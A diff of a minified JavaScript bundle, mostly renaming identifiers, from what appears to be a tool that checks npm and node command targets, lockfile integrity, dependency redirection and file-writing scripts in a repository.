-void 0||r||oc(n).ifPresent))return{event:s,words:[],text:""}}function YD(n){return $B(n)||TB(n)||n==="nohup"}function VD(n){
+slice(1).map(B=>({text:B,span:$f,quoted:!0})),{invocation:o,problems:c}=ZB(i),l=o.flags.every(({name:B})=>YD.has(B));if(!(c.
+length>0||!l))return Nf(o,e,s)}async function QD(n,{tree:e},t){const s=Sf(n),r=(await xn(e,t))?.scripts.has(s??"");if(!(s===
+void 0||r||cc(n).ifPresent))return{event:s,words:[],text:""}}function XD(n){return $B(n)||TB(n)||n==="nohup"}function e0(n){
 const{words:e,assignments:t,refused:s,problems:r}=Vn(n),i=r.every(({rule:d,severity:h})=>d==="assignment-refused"||h==="\
 warning"&&d!=="unquoted-glob"),o=r.filter(({rule:d})=>d==="assignment-refused").length,[c]=e;if(!i||o!==s.length||c===void 0||
-YD(c.text)||c.text.includes("="))return;const l=[...t,...s].sort((d,h)=>d.span.start-h.span.start);if(l.some(({name:d})=>d===
-"PATH"))return;const B=Object.fromEntries(l.map(({name:d,value:h})=>[d,h]));return{argv:e.map(d=>d.text),env:B}}const QD=new Set(
+XD(c.text)||c.text.includes("="))return;const l=[...t,...s].sort((d,h)=>d.span.start-h.span.start);if(l.some(({name:d})=>d===
+"PATH"))return;const B=Object.fromEntries(l.map(({name:d,value:h})=>[d,h]));return{argv:e.map(d=>d.text),env:B}}const t0=new Set(
 `browser cache cache-max cache-min fetch-retries if-present include-workspace-root init.author.email
   init.author.name init.author.url init.license init.version legacy-bundling min-release-age offline
-  prefix update-notifier workspace workspaces`.split(/\s+/)),XD=["also","dev","include","omit","only","optional","produc\
-tion"];function e0(n,e){const t=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(Ta(i,o))),s=n.map(({name:i,
-value:o,negated:c})=>[i.slice(2),o??c!==!0]),r=[...t,...s].filter(([i])=>!QD.has(i));return Object.fromEntries(r.map(([i,
+  prefix update-notifier workspace workspaces`.split(/\s+/)),n0=["also","dev","include","omit","only","optional","produc\
+tion"];function s0(n,e){const t=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes($a(i,o))),s=n.map(({name:i,
+value:o,negated:c})=>[i.slice(2),o??c!==!0]),r=[...t,...s].filter(([i])=>!t0.has(i));return Object.fromEntries(r.map(([i,
 o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,Lf(o)]))}function Lf(n){return Array.isArray(n)?n.map(Lf).join(
 `
 
-`):n==null||n===!1?"":String(n).trim()}function t0(n){const{name:e,version:t,config:s,engines:r,bin:i}=n,o={};return cc(
-{name:e,version:t,config:s,engines:r,bin:n0(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([c])=>/^[A-Za-z_]\w*$/.
-test(c)))}function cc(n,e,t){for(const[s,r]of Object.entries(n))if(r!==void 0)if(r===null||r===!1)t[`${e}${s}`]="";else if(Array.
-isArray(r))for(const[i,o]of r.entries())cc({[`${s}_${i}`]:o},e,t);else typeof r=="object"?cc(r,`${e}${s}_`,t):t[`${e}${s}`]=
-String(r)}function n0(n,e){const r=Object.entries(qi(n,typeof e=="string"?e:"")??{}).map(([i,o])=>[Le.posix.basename(jf(
+`):n==null||n===!1?"":String(n).trim()}function r0(n){const{name:e,version:t,config:s,engines:r,bin:i}=n,o={};return lc(
+{name:e,version:t,config:s,engines:r,bin:i0(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([c])=>/^[A-Za-z_]\w*$/.
+test(c)))}function lc(n,e,t){for(const[s,r]of Object.entries(n))if(r!==void 0)if(r===null||r===!1)t[`${e}${s}`]="";else if(Array.
+isArray(r))for(const[i,o]of r.entries())lc({[`${s}_${i}`]:o},e,t);else typeof r=="object"?lc(r,`${e}${s}_`,t):t[`${e}${s}`]=
+String(r)}function i0(n,e){const r=Object.entries(Vi(n,typeof e=="string"?e:"")??{}).map(([i,o])=>[Le.posix.basename(jf(
 i)),jf(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function jf(n){return Le.posix.join("/",
-n.replaceAll("\\","/")).slice(1)}async function s0(n,e){const{invocation:t,argv:s,targets:r}=n,{tree:i,cwd:o="",changed:c=new Set,
+n.replaceAll("\\","/")).slice(1)}async function o0(n,e){const{invocation:t,argv:s,targets:r}=n,{tree:i,cwd:o="",changed:c=new Set,
 programs:l=Ar}=e,B=t?.program==="npm"||t?.program==="npx";if(i===void 0||s===null||t===void 0||!B)return n;const h=await Nf(
 t,{tree:i,directory:o,changed:c,families:l}),g=r.some(({kind:_,via:k})=>_==="package_binary"&&k===void 0),y=(h?Rf(h).some(
-({text:_})=>r0.test(_)):!g)?await bE(i,c):[];return{...n,...h&&{scripts:h},...y.length>0&&{npmSettings:y}}}const r0=/(?:^|[^\w.-])np[mx](?![\w.-])/,
-i0=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
-o0=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
-a0=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,c0=/^[A-Za-z][a-z']*[:,]?$/,u0=/^(?:[A-Za-z_][\w .\t-]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
-l0=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,d0=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
-function B0(n){const e=n.trim(),[t="",...s]=e.split(/\s+/,100);if(t===t.toLowerCase()&&Lt(t)!==void 0)return!1;if(u0.test(
-e)||l0.test(e)||d0.test(t))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=c0.test(t);if(s.some(o=>/^--?[A-Za-z]/.test(
-o)))return!1;if((r||a0.test(t))&&s.some(o=>i0.test(f0(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(t))return s.length>0||
-/[.!:]$/.test(t);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(o0.test(t)||/[a-z]{2}[.!?]$/.test(e))}
-function f0(n){return n.replace(/[.,;:!?]$/,"")}function XN({targets:n}){return n.flatMap(({kind:e,path:t,parsed:s})=>e===
-"file"&&t&&!s?[t]:[])}async function h0(n,e,t,s){if(n===e)return[];const[{npm:r},{npm:i}]=await Promise.all([On(n),On(e)]),
-o=i?.packages.get(t),c={name:t,tree:n,base:e,before:[...o?[o]:[],...await zf(e,t)],hosts:await E0(e),configured:await v0(
-n,t)},l=await y0(c),B=r?.packages.get(t),h=B?p0(B,c):r?void 0:uc({name:t,version:"",source:{kind:"registry"}},c);return h&&
-l.push({name:t,path:r?.path??".npmrc",...h}),l.map(g=>Xe("dependency-redirected",s,g))}function p0(n,e){const{tree:t,base:s}=e,
-r=e.before.find(o=>Hf(o,n));return r?.version===n.version&&C0(r,n)||g0(n,t,s)?{how:"integrity",to:n.integrity??"nothing"}:
-r?uc(n,e):Mf(n,e)}function Mf(n,e){const{source:t}=n;if(t.kind==="git"||t.kind==="tarball")return{how:t.kind,to:t.at};if(t.
-kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return m0(n,e.tree)&&!s?void 0:{how:"file",to:t.at}}return n.
-name!==e.name?{how:"alias",to:n.name}:uc(n,e)}function uc({source:n},{hosts:e,configured:t}){if(n.kind!=="registry")return;
-const s=_0(n,t);return e.has(s)?void 0:{how:"host",to:s}}function Gf({source:n}){if(n.kind==="file")return ft(n.at.replace(
-/#.*$|::.*$/s,""))||void 0}function m0(n,e){const t=Gf(n),s=t===void 0?void 0:At(e,t);return s?.kind==="inside"&&s.entry.
-kind==="directory"}function g0(n,e,t){const s=Gf(n);if(s===void 0)return!1;const[r,i]=[e,t].map(c=>At(c,s));return!(r?.kind===
+({text:_})=>a0.test(_)):!g)?await _E(i,c):[];return{...n,...h&&{scripts:h},...y.length>0&&{npmSettings:y}}}const a0=/(?:^|[^\w.-])np[mx](?![\w.-])/,
+c0=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
+u0=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
+l0=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,d0=/^[A-Za-z][a-z']*[:,]?$/,B0=/^(?:[A-Za-z_][\w .\t-]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
+f0=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,h0=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
+function p0(n){const e=n.trim(),[t="",...s]=e.split(/\s+/,100);if(t===t.toLowerCase()&&Lt(t)!==void 0)return!1;if(B0.test(
+e)||f0.test(e)||h0.test(t))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=d0.test(t);if(s.some(o=>/^--?[A-Za-z]/.test(
+o)))return!1;if((r||l0.test(t))&&s.some(o=>c0.test(m0(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(t))return s.length>0||
+/[.!:]$/.test(t);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(u0.test(t)||/[a-z]{2}[.!?]$/.test(e))}
+function m0(n){return n.replace(/[.,;:!?]$/,"")}function sF({targets:n}){return n.flatMap(({kind:e,path:t,parsed:s})=>e===
+"file"&&t&&!s?[t]:[])}async function g0(n,e,t,s){if(n===e)return[];const[{npm:r},{npm:i}]=await Promise.all([On(n),On(e)]),
+o=i?.packages.get(t),c={name:t,tree:n,base:e,before:[...o?[o]:[],...await zf(e,t)],hosts:await D0(e),configured:await x0(
+n,t)},l=await _0(c),B=r?.packages.get(t),h=B?C0(B,c):r?void 0:dc({name:t,version:"",source:{kind:"registry"}},c);return h&&
+l.push({name:t,path:r?.path??".npmrc",...h}),l.map(g=>Xe("dependency-redirected",s,g))}function C0(n,e){const{tree:t,base:s}=e,
+r=e.before.find(o=>Hf(o,n));return r?.version===n.version&&b0(r,n)||w0(n,t,s)?{how:"integrity",to:n.integrity??"nothing"}:
+r?dc(n,e):Mf(n,e)}function Mf(n,e){const{source:t}=n;if(t.kind==="git"||t.kind==="tarball")return{how:t.kind,to:t.at};if(t.
+kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return y0(n,e.tree)&&!s?void 0:{how:"file",to:t.at}}return n.
+name!==e.name?{how:"alias",to:n.name}:dc(n,e)}function dc({source:n},{hosts:e,configured:t}){if(n.kind!=="registry")return;
+const s=k0(n,t);return e.has(s)?void 0:{how:"host",to:s}}function Gf({source:n}){if(n.kind==="file")return ft(n.at.replace(
+/#.*$|::.*$/s,""))||void 0}function y0(n,e){const t=Gf(n),s=t===void 0?void 0:At(e,t);return s?.kind==="inside"&&s.entry.
+kind==="directory"}function w0(n,e,t){const s=Gf(n);if(s===void 0)return!1;const[r,i]=[e,t].map(c=>At(c,s));return!(r?.kind===
 "inside"&&Wt(r.entry.kind))||i?.kind!=="inside"?!1:r.entry.oid!==i.entry.oid||r.entry.size!==i.entry.size}function Hf(n,e){
-return n.name===e.name&&n.source.kind===e.source.kind&&Uf(n)===Uf(e)}function C0({integrity:n,source:e},{integrity:t}){if(n===
+return n.name===e.name&&n.source.kind===e.source.kind&&Uf(n)===Uf(e)}function b0({integrity:n,source:e},{integrity:t}){if(n===
 void 0||e.kind==="file"&&t===void 0)return!1;if(t===void 0)return!0;const s=o=>o.split("-",1)[0],r=t.split(/\s+/),i=n.split(
-/\s+/).filter(o=>r.some(c=>s(c)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}async function y0(n){const{name:e,
+/\s+/).filter(o=>r.some(c=>s(c)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}async function _0(n){const{name:e,
 tree:t,before:s}=n;return(await zf(t,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.name===e||s.some(c=>Hf(c,r)))return[];
 const o=Mf(r,n);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function zf(n,e){const t=on(await $r(n,
 "package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(B=>Yn(on(t[B]),e)),{overrides:r,resolutions:i,
-pnpm:o}=t,c=[r,i,on(o).overrides].flatMap(B=>Object.entries(on(B)).flatMap(([d,h])=>b0(d,e)?[typeof h=="string"?h:Yn(on(
-h),".")]:[]));return[...new Set([...s,...c])].filter(B=>B!==""&&!B.startsWith("workspace:")).map(B=>w0(B,e))}function w0(n,e){
-const t=wk(n);return t!==void 0&&t!==e?{name:t,version:"",source:{kind:"registry"}}:{name:e,version:"",source:tf(n,e,"")}}
-function b0(n,e){const t=n.split(/[>]|\*\*\//).at(-1)??"";return t===e||t.startsWith(`${e}@`)||t.endsWith(`/${e}`)}function Uf({
-source:{kind:n,at:e=""},version:t}){return n==="tarball"&&t!==""?e.replaceAll(t,"*"):n==="registry"&&so.includes(e)?"":e}
-const Jf="registry.npmjs.org",so=[Jf,"registry.yarnpkg.com"];function _0({at:n},e){return(n===void 0||so.includes(n)?e:void 0)??
-n??Jf}const E0=Fn(async n=>{const e=await Zf(n),t=Object.entries(e).filter(([i])=>i==="registry"||i.endsWith(":registry")).
+pnpm:o}=t,c=[r,i,on(o).overrides].flatMap(B=>Object.entries(on(B)).flatMap(([d,h])=>v0(d,e)?[typeof h=="string"?h:Yn(on(
+h),".")]:[]));return[...new Set([...s,...c])].filter(B=>B!==""&&!B.startsWith("workspace:")).map(B=>E0(B,e))}function E0(n,e){
+const t=Ek(n);return t!==void 0&&t!==e?{name:t,version:"",source:{kind:"registry"}}:{name:e,version:"",source:tf(n,e,"")}}
+function v0(n,e){const t=n.split(/[>]|\*\*\//).at(-1)??"";return t===e||t.startsWith(`${e}@`)||t.endsWith(`/${e}`)}function Uf({
+source:{kind:n,at:e=""},version:t}){return n==="tarball"&&t!==""?e.replaceAll(t,"*"):n==="registry"&&io.includes(e)?"":e}
+const Jf="registry.npmjs.org",io=[Jf,"registry.yarnpkg.com"];function k0({at:n},e){return(n===void 0||io.includes(n)?e:void 0)??
+n??Jf}const D0=Fn(async n=>{const e=await Zf(n),t=Object.entries(e).filter(([i])=>i==="registry"||i.endsWith(":registry")).
 map(([,i])=>Wf(String(i))),s=((await On(n)).npm?.all??[]).flatMap(({source:i})=>i.kind==="registry"&&i.at?[i.at]:[]),r=e.
-registry===void 0||s.some(i=>so.includes(i));return new Set([...t,...s,...r?so:[]])});async function v0(n,e){const t=await Zf(
+registry===void 0||s.some(i=>io.includes(i));return new Set([...t,...s,...r?io:[]])});async function x0(n,e){const t=await Zf(
 n),[s]=e.startsWith("@")?e.split("/"):[],r=s&&t[`${s}:registry`]||t.registry;return r===void 0?void 0:Wf(String(r))}async function Zf(n){
 const e=await Vs({tree:n,directory:""});return"settings"in e?e.settings:{}}function Wf(n){return URL.canParse(n)?new URL(
 n).host:n}function Qs(n){return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.exec(n)?.[1]}async function Pr(n,e,t){const{
-tree:s,base:r=s}=fc(n),{name:i,path:o}=e,c=await k0(s,r,i),l=c===void 0?await O0(s,e):void 0,B=d=>Xe("dependency-unverif\
-ied",t,{name:i,path:o,...d});return[...c===void 0?[]:[B({fault:c})],...l===void 0?[]:[B({fault:"stale",differs:l})],...await lc(
-n,i,t)]}async function lc(n,e,t){const{tree:s,base:r=s}=fc(n);return[...(await D0(s,r)).map(o=>Xe("dependency-not-compar\
-ed",t,{name:e,path:o})),...await h0(s,r,e,t)]}function dc(n){return is(n,"dependency-unverified")?n.args.fault!=="stale":
-is(n,"target-missing")&&n.args.untracked===!0}async function k0(n,e,t){const[s,r]=await Promise.all([On(n),On(e)]),i=({npm:B})=>B?.
+tree:s,base:r=s}=pc(n),{name:i,path:o}=e,c=await O0(s,r,i),l=c===void 0?await T0(s,e):void 0,B=d=>Xe("dependency-unverif\
+ied",t,{name:i,path:o,...d});return[...c===void 0?[]:[B({fault:c})],...l===void 0?[]:[B({fault:"stale",differs:l})],...await Bc(
+n,i,t)]}async function Bc(n,e,t){const{tree:s,base:r=s}=pc(n);return[...(await A0(s,r)).map(o=>Xe("dependency-not-compar\
+ed",t,{name:e,path:o})),...await g0(s,r,e,t)]}function fc(n){return is(n,"dependency-unverified")?n.args.fault!=="stale":
+is(n,"target-missing")&&n.args.untracked===!0}async function O0(n,e,t){const[s,r]=await Promise.all([On(n),On(e)]),i=({npm:B})=>B?.
 packages.has(t)===!0,o=B=>i(B)||B.unread.length>0;return i(r)&&!i(s)&&n.stat(r.npm?.path??"")||o(r)&&!o(s)?"removed":(await xn(
-n,""))?.dependencies.has(t)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function D0(n,e){const[{npm:t,
+n,""))?.dependencies.has(t)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function A0(n,e){const[{npm:t,
 unread:s},r]=await Promise.all([On(n),On(e)]);if(!t&&s.length===0&&!r.npm&&r.unread.length===0)return[""];const i=await Promise.
-all(s.map(o=>oE(n,e,o)));return s.filter((o,c)=>i[c])}async function x0(n,e,t){const{npm:s,unread:r}=await On(n),i=s?.packages,
-o=r.length>0||i===void 0||i.has(e);return t.has(e)&&o?e:[...t].find(c=>Object.hasOwn(i?.get(c)?.bin??{},e))}async function O0(n,{
+all(s.map(o=>aE(n,e,o)));return s.filter((o,c)=>i[c])}async function S0(n,e,t){const{npm:s,unread:r}=await On(n),i=s?.packages,
+o=r.length>0||i===void 0||i.has(e);return t.has(e)&&o?e:[...t].find(c=>Object.hasOwn(i?.get(c)?.bin??{},e))}async function T0(n,{
 name:e,binary:t}){const s=`node_modules/${e}`,r=(await On(n)).npm?.packages.get(e);if(r===void 0||n.stat(s)===void 0)return;
 const i=await $r(n,`${s}/package.json`),o=on(i),c=Yn(o,"name")||e,l=Yn(o,"version"),B=(_,k,v)=>`the installed package ha\
 s the ${_} \`${k||"nothing"}\`, but the lockfile has \`${v}\``;if(i!==void 0&&c!==r.name)return B("name",c,r.name);if(i!==
-void 0&&!["",l].includes(r.version))return B("version",l,r.version);const d=r.bin??(o.bin===void 0?void 0:qi(o.bin,c)??{});
+void 0&&!["",l].includes(r.version))return B("version",l,r.version);const d=r.bin??(o.bin===void 0?void 0:Vi(o.bin,c)??{});
 if(t===void 0||d===void 0)return;const{name:h,file:g}=t,C=Object.entries(d).flatMap(([_,k])=>h===void 0||h===_?[Le.posix.
-normalize(k)]:[]),y=h===void 0?"binary":`binary ${h}`;return C.includes(g)?void 0:B(y,g,C[0]??"nothing")}function Bc({tree:n,
-base:e=n,directory:t}){const s=r=>i=>Ki.some(o=>i.stat(Le.posix.join(r,o))!==void 0);return Fr(t).find(r=>[n,e].some(s(r)))??
-""}function fc(n,e=Bc(n)){if(e==="")return n;const{tree:t,base:s,directory:r,changed:i}=n,o=`${e}/`;return{...n,tree:qs(
+normalize(k)]:[]),y=h===void 0?"binary":`binary ${h}`;return C.includes(g)?void 0:B(y,g,C[0]??"nothing")}function hc({tree:n,
+base:e=n,directory:t}){const s=r=>i=>Yi.some(o=>i.stat(Le.posix.join(r,o))!==void 0);return Fr(t).find(r=>[n,e].some(s(r)))??
+""}function pc(n,e=hc(n)){if(e==="")return n;const{tree:t,base:s,directory:r,changed:i}=n,o=`${e}/`;return{...n,tree:qs(
 t,e),...s&&{base:qs(s,e)},directory:r.slice(o.length),changed:new Set([...i].flatMap(c=>c.startsWith(o)?c.slice(o.length):
-[]))}}async function Kf(n,e){const t=Bc(n),{targets:s,problems:r}=await e(fc(n,t));return{targets:s.map(i=>i.path===void 0?
-i:{...i,path:Le.posix.join(t,i.path)}),problems:r}}const A0=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function qf(n,e,t){
+[]))}}async function Kf(n,e){const t=hc(n),{targets:s,problems:r}=await e(pc(n,t));return{targets:s.map(i=>i.path===void 0?
+i:{...i,path:Le.posix.join(t,i.path)}),problems:r}}const I0=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function qf(n,e,t){
 const{tree:s}=n,r=Qn(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[r]};if(e.includes("\\"))return He("targe\
-t-not-a-file",t,{path:e,reason:"backslash"});const i=ft(Pt(n,e))??"",o=Bc(n);if(o!==""&&rn(i,Le.posix.join(o,"node_modul\
-es")))return Kf(n,B=>qf(B,e,t));const c=Xf(s,pc(i));return c===void 0?T0(n,e,i,t):c.kind!=="inside"||c.entry.kind!=="dir\
+t-not-a-file",t,{path:e,reason:"backslash"});const i=ft(Pt(n,e))??"",o=hc(n);if(o!==""&&rn(i,Le.posix.join(o,"node_modul\
+es")))return Kf(n,B=>qf(B,e,t));const c=Xf(s,gc(i));return c===void 0?R0(n,e,i,t):c.kind!=="inside"||c.entry.kind!=="dir\
 ectory"?Yf(n,{path:e,wanted:i,found:c},t):await eh(n,{path:e,wanted:i},t,B=>Yf(n,B,t))??He("target-not-a-file",t,{path:e,
-reason:"directory"})}async function hc(n,{path:e,wanted:t,found:s},r){const i=Oa(s,e,r);if("problems"in i)return i;const o=await S0(
-n,i,e,r);if(o.some(dc))return{targets:[],problems:o};const c=Aa(n,{name:e,path:i.path,wanted:t},r);return{...c,problems:[
-...o,...c.problems]}}async function Yf(n,e,t){const{path:s,wanted:r}=e,i=Oa(e.found,s,t);if("problems"in i)return i;const o=/\.([^./]*)$/.
-exec(Le.posix.basename(i.path))?.[1]??"";if(!A0.has(o))return He("target-extension",t,{program:"node",path:s,extension:o});
-const c=await hc(n,e,t);if(c.targets.length===0)return c;const l=Qs(i.path);return l&&!rn(r,"node_modules")&&!r.includes(
-`node_modules/${l}`)?He("dependency-unverified",t,{name:l,path:s,fault:"linked"}):i.tracked&&await $0(n.tree,i)?mt([c,He(
-"target-writes",t,{path:i.path})]):c}async function S0(n,{path:e,tracked:t,built:s},r,i){const o=Qs(e);return o===void 0?
+reason:"directory"})}async function mc(n,{path:e,wanted:t,found:s},r){const i=Sa(s,e,r);if("problems"in i)return i;const o=await $0(
+n,i,e,r);if(o.some(fc))return{targets:[],problems:o};const c=Ta(n,{name:e,path:i.path,wanted:t},r);return{...c,problems:[
+...o,...c.problems]}}async function Yf(n,e,t){const{path:s,wanted:r}=e,i=Sa(e.found,s,t);if("problems"in i)return i;const o=/\.([^./]*)$/.
+exec(Le.posix.basename(i.path))?.[1]??"";if(!I0.has(o))return He("target-extension",t,{program:"node",path:s,extension:o});
+const c=await mc(n,e,t);if(c.targets.length===0)return c;const l=Qs(i.path);return l&&!rn(r,"node_modules")&&!r.includes(
+`node_modules/${l}`)?He("dependency-unverified",t,{name:l,path:s,fault:"linked"}):i.tracked&&await F0(n.tree,i)?mt([c,He(
+"target-writes",t,{path:i.path})]):c}async function $0(n,{path:e,tracked:t,built:s},r,i){const o=Qs(e);return o===void 0?
 (t||s)&&!rn(e,"node_modules")?[]:[Xe("target-missing",i,{path:r,untracked:!0})]:t?[Xe("dependency-unverified",i,{name:o,
-path:r,fault:"committed"})]:await Pr(n,{name:o,path:r},i)}async function T0(n,e,t,s){const r=Qs(t);if(r===void 0&&n.tree.
-isPending?.(t))return He("target-not-judged",s,{path:e});if(r===void 0||n.tree.stat("node_modules")!==void 0)return xa(n.
-tree,t,e,s);const i=await Pr(n,{name:r,path:e},s);return i.some(dc)?{targets:[],problems:i}:mt([He("not-installed",s,{name:r}),
-{targets:[],problems:i}])}async function Vf(n,e,t,s){const r=rc(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[
-r]};const o=(ic(e)?(Nr(e)??[]).map(TD):[e]).map(B=>At(n.tree,Pt(n,B)));if(o.some(({kind:B})=>B==="outside"))return He("t\
+path:r,fault:"committed"})]:await Pr(n,{name:o,path:r},i)}async function R0(n,e,t,s){const r=Qs(t);if(r===void 0&&n.tree.
+isPending?.(t))return He("target-not-judged",s,{path:e});if(r===void 0||n.tree.stat("node_modules")!==void 0)return Aa(n.
+tree,t,e,s);const i=await Pr(n,{name:r,path:e},s);return i.some(fc)?{targets:[],problems:i}:mt([He("not-installed",s,{name:r}),
+{targets:[],problems:i}])}async function Vf(n,e,t,s){const r=oc(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[
+r]};const o=(ac(e)?(Nr(e)??[]).map(RD):[e]).map(B=>At(n.tree,Pt(n,B)));if(o.some(({kind:B})=>B==="outside"))return He("t\
 arget-outside",t,{path:e,reason:"symlink"});const[c]=o,l=c?.kind==="inside"&&c.entry.kind==="directory"&&c.entry.tracked;
-return ic(e)||c===void 0||l?pt:s({path:e,wanted:ft(Pt(n,e))??e,found:c})}const Qf=256*1024,I0=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
-async function $0(n,e){if((e.size??0)>Qf)return!1;const t=(await n.read(e.path)).toString("latin1");return I0.test(t)}const R0=[
-"",".js",".json",".node"];function pc(n){return n===""?[""]:R0.map(e=>n+e)}function Xf(n,e){const t=e.map(s=>At(n,s)).filter(
+return ac(e)||c===void 0||l?pt:s({path:e,wanted:ft(Pt(n,e))??e,found:c})}const Qf=256*1024,N0=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
+async function F0(n,e){if((e.size??0)>Qf)return!1;const t=(await n.read(e.path)).toString("latin1");return N0.test(t)}const P0=[
+"",".js",".json",".node"];function gc(n){return n===""?[""]:P0.map(e=>n+e)}function Xf(n,e){const t=e.map(s=>At(n,s)).filter(
 s=>s.kind!=="missing");return t.find(s=>s.kind!=="inside"||Wt(s.entry.kind))??t[0]}async function eh({tree:n,changed:e},{
 path:t,wanted:s},r,i){const o=Le.posix.join(s,"package.json"),c=await $r(n,o);if(c===Ln)return He("package-json-invalid",
-r,{path:o});const l=Yn(on(c),"main"),B=l.startsWith("/")?void 0:ft(Le.posix.join(s,l)),d=y=>pc(Le.posix.join(y,"index")).
-slice(1),h=l===""||!B?[]:[...pc(B),...d(B)],g=B===void 0?{kind:"outside",path:l}:N0(n,[...h,...d(s)]);if(g===void 0)return;
-const C=await i({path:t,wanted:s,found:g});return e.has(o)?mt([C,He("target-changed",r,{path:o})]):C}function N0(n,e){return e.
-map(t=>At(n,t)).find(t=>t.kind==="inside"?Wt(t.entry.kind):t.kind!=="missing")}async function F0(n,e){const{flags:t,operands:s}=n,
-r=Yi(n);if(P0(n,r))return pt;const i=[];for(const l of t)i.push(await th(l,e));for(const{text:l,span:B}of s){if(l===""||
+r,{path:o});const l=Yn(on(c),"main"),B=l.startsWith("/")?void 0:ft(Le.posix.join(s,l)),d=y=>gc(Le.posix.join(y,"index")).
+slice(1),h=l===""||!B?[]:[...gc(B),...d(B)],g=B===void 0?{kind:"outside",path:l}:L0(n,[...h,...d(s)]);if(g===void 0)return;
+const C=await i({path:t,wanted:s,found:g});return e.has(o)?mt([C,He("target-changed",r,{path:o})]):C}function L0(n,e){return e.
+map(t=>At(n,t)).find(t=>t.kind==="inside"?Wt(t.entry.kind):t.kind!=="missing")}async function j0(n,e){const{flags:t,operands:s}=n,
+r=Qi(n);if(M0(n,r))return pt;const i=[];for(const l of t)i.push(await th(l,e));for(const{text:l,span:B}of s){if(l===""||
 l.startsWith("-"))continue;const d=()=>qf(e,l,B);i.push(r?await Vf(e,l,B,d):await d())}const{targets:o,problems:c}=mt(i);
-return t.some(({name:l})=>l==="--check")?{targets:o.map(l=>({...l,parsed:!0})),problems:c}:{targets:o,problems:c}}function P0({
-operands:n},e){const t=n[0]?.text;return t==="inspect"||t==="debug"&&!e}const L0=new Set(["--import","--require","--expe\
+return t.some(({name:l})=>l==="--check")?{targets:o.map(l=>({...l,parsed:!0})),problems:c}:{targets:o,problems:c}}function M0({
+operands:n},e){const t=n[0]?.text;return t==="inspect"||t==="debug"&&!e}const G0=new Set(["--import","--require","--expe\
 rimental-loader"]);async function th(n,e){const{name:t,value:s="",span:r}=n;return t==="--env-file"||t==="--env-file-if-\
-exists"?G0(e,s,r):t==="--test-reporter-destination"?j0(e,s,r):!L0.has(t)||!/^[@a-z]/i.test(s)?pt:nh(e,s,r)}function j0(n,e,t){
+exists"?U0(e,s,r):t==="--test-reporter-destination"?H0(e,s,r):!G0.has(t)||!/^[@a-z]/i.test(s)?pt:nh(e,s,r)}function H0(n,e,t){
 if(/^std(?:out|err)$/.test(e))return pt;const s=Qn(e,t,n.directory);if(s!==void 0)return{targets:[],problems:[s]};const r=At(
 n.tree,ft(Pt(n,e))??"");return r.kind==="outside"?He("target-outside",t,{path:e,reason:"symlink"}):r.kind==="inside"&&r.
 entry.tracked?He("writes-files",t,{program:"node",flag:e}):pt}async function nh(n,e,t){const s=/^(?:@[^/]+\/)?[^/]+/.exec(
-e)?.[0]??e;return{targets:[],problems:await Pr(n,{name:s,path:e},t)}}const M0=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function G0(n,e,t){
+e)?.[0]??e;return{targets:[],problems:await Pr(n,{name:s,path:e},t)}}const z0=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function U0(n,e,t){
